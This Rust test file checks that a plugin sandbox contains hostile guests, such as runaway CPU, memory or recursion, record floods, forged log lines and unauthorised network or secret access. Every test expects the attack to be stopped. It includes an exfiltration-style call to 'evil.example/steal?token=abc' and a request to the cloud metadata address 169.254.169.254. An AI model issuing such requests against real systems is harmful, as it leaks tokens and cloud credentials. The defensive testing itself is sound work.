//! Hostile guests: each tries to break one rule of the sandbox. The attack must fail with the documented exit code and a
//! message that names the limit, and the same host must then serve a well-behaved guest.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use finops_tests::{
    artifacts,
    program::{Place, Ran},
};

/// A place with an operator's file for one act, with these extra lines.
fn act(act: &str, settings: &str, more: &str) -> (Place, Ran) {
    let place = Place::new().unwrap();
    let ran = perform(&place, act, settings, more);
    (place, ran)
}

fn perform(place: &Place, act: &str, settings: &str, more: &str) -> Ran {
    let config =
        format!("[collector]\nname = \"hostile\"\n[settings]\nact = \"{act}\"\n{settings}\n{more}\n");
    let config = place.file("hostile.toml", config).unwrap();
    place.run(&artifacts::guest("hostile").unwrap(), &config).unwrap()
}

/// Asserts that the attack ended its own run in this way, and nothing else.
#[track_caller]
fn assert_ended(place: &Place, ran: &Ran, code: i32, message: &str) {
    assert_eq!(ran.code, Some(code), "{ran:?}");
    let error = ran.json().unwrap()["runs"][0]["error"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(error.contains(message), "{error}");
    let ran = perform(place, "behave", "amount = \"12.50\"", "");
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let check = place.call(&["check", "--ledger"]).unwrap();
    assert_eq!(check.code, Some(0), "{check:?}");
    let costs = place.call(&["costs", "--json"]).unwrap().json().unwrap();
    assert_eq!(costs["rows"][0]["effective"], "12.5", "{costs}");
}

#[test]
fn a_guest_that_computes_forever_is_stopped_by_its_cpu_time() {
    let (place, ran) = act("spin", "", "[limits]\ncpu = \"1s\"");
    assert_ended(&place, &ran, 65, "CPU time");
}

#[test]
fn a_guest_that_sleeps_is_stopped_by_the_wall_clock() {
    let (place, ran) = act("sleep", "", "[limits]\nwall = \"1s\"");
    assert_ended(&place, &ran, 65, "`[limits] wall`");
}

#[test]
fn a_guest_that_grows_is_stopped_by_its_memory() {
    let (place, ran) = act("grow", "", "[limits]\nmemory = \"32MiB\"");
    assert_ended(&place, &ran, 65, "32 MiB of memory");
}

#[test]
fn a_guest_that_panics_ends_its_own_run() {
    let (place, ran) = act("panic", "", "");
    assert_ended(&place, &ran, 65, "broke down");
}

#[test]
fn a_guest_that_recurses_forever_ends_its_own_run() {
    let (place, ran) = act("recurse", "", "");
    assert_ended(&place, &ran, 65, "broke down");
}

#[test]
fn a_guest_that_dies_before_its_commit_leaves_nothing() {
    let (place, ran) = act("half-written", "", "");
    assert_eq!(ran.json().unwrap()["runs"][0]["counts"]["records"], 1);
    assert_ended(&place, &ran, 65, "broke down");
}

#[test]
fn a_guest_cannot_write_more_records_than_granted() {
    let (place, ran) = act("records", "count = 5000", "[limits]\nrecords = 1000");
    assert_ended(&place, &ran, 65, "1000 records");
}

#[test]
fn a_guest_cannot_open_more_writers_than_allowed() {
    let (place, ran) = act("writers", "count = 100", "");
    assert_ended(&place, &ran, 65, "writers");
}

#[test]
fn a_guest_cannot_open_more_partitions_than_allowed() {
    let (place, ran) = act("partitions", "count = 1001", "");
    assert_ended(&place, &ran, 65, "partitions");
}

#[test]
fn a_record_outside_its_partitions_fails_the_run() {
    let (place, ran) = act("outside-partition", "", "");
    assert_ended(&place, &ran, 65, "partition");
}

#[test]
fn a_record_that_is_too_large_fails_the_run() {
    let (place, ran) = act("huge-record", "size = 41943040", "");
    assert_ended(&place, &ran, 65, "broke down");
}

#[test]
fn a_guest_cannot_write_another_providers_money() {
    let (place, ran) = act("wrong-provider", "", "");
    assert_ended(&place, &ran, 65, "provider");
}

#[test]
fn a_guest_cannot_write_a_stream_it_did_not_declare() {
    let (place, ran) = act("unknown-stream", "", "");
    assert_ended(&place, &ran, 65, "no stream");
}

#[test]
fn a_guest_that_always_wants_more_is_stopped() {
    let (place, ran) = act("forever-more", "", "");
    assert_ended(&place, &ran, 65, "called again");
}

#[test]
fn a_guest_finds_no_files_sockets_names_environment_or_arguments() {
    let (_, ran) = act("environment", "", "");
    assert_eq!(ran.code, Some(0), "{ran:?}");
}

#[test]
fn a_flood_of_log_lines_is_cut_off_and_counted() {
    for (act_name, count) in [("flood-log", 1000), ("flood-stdout", 5000)] {
        let (_, ran) = act(act_name, &format!("count = {count}"), "");
        assert_eq!(ran.code, Some(0));
        assert!(ran.stderr.len() < 4 << 20, "{}", ran.stderr.len());
        let dropped = ran.json().unwrap()["runs"][0]["counts"]["log_dropped"]
            .as_u64()
            .unwrap();
        assert!(dropped > 0, "{act_name}");
    }
}

#[test]
fn a_forged_log_line_is_shown_escaped() {
    let (_, ran) = act("forge-log", "", "");
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(!ran.stderr.contains('\u{1b}'), "{:?}", ran.stderr);
    assert!(
        !ran.stderr
            .lines()
            .any(|line| line.starts_with("{\"level\":\"INFO\"} forged"))
    );
}

#[test]
fn a_call_that_no_rule_allows_is_denied_and_the_operator_learns_the_rule() {
    let (place, ran) = act("call", "url = \"https://evil.example/steal?token=abc\"", "");
    assert_ended(&place, &ran, 78, "denied");
    let denied = &ran.json().unwrap()["runs"][0]["egress"]["denied"][0];
    assert!(denied.to_string().contains("evil.example"), "{denied}");
    assert!(denied.to_string().contains("[[allow]]"), "{denied}");
    assert!(!ran.stdout.contains("token=abc") && !ran.stderr.contains("token=abc"));
}

#[test]
fn the_metadata_endpoint_is_out_of_reach_even_if_a_rule_names_it() {
    let rule = "[[allow]]\nhost = \"169.254.169.254\"\ninsecure-http = true";
    let (place, ran) = act("call", "url = \"http://169.254.169.254/latest/meta-data\"", rule);
    assert_ended(&place, &ran, 78, "denied");
}

#[test]
fn a_secret_is_not_revealed_without_a_grant() {
    let place = Place::new().unwrap();
    place.file("token", "sup3rs3cret-token").unwrap();
    let more = "[[allow]]\nhost = \"api.example\"\ncredential = \"api\"\n\
                [credentials.api]\nscheme = \"bearer\"\ntoken = { file = \"token\" }";
    let ran = perform(&place, "reveal", "", more);
    assert_ended(&place, &ran, 78, "denied");
    assert!(!ran.stdout.contains("sup3rs3cret") && !ran.stderr.contains("sup3rs3cret"));
}
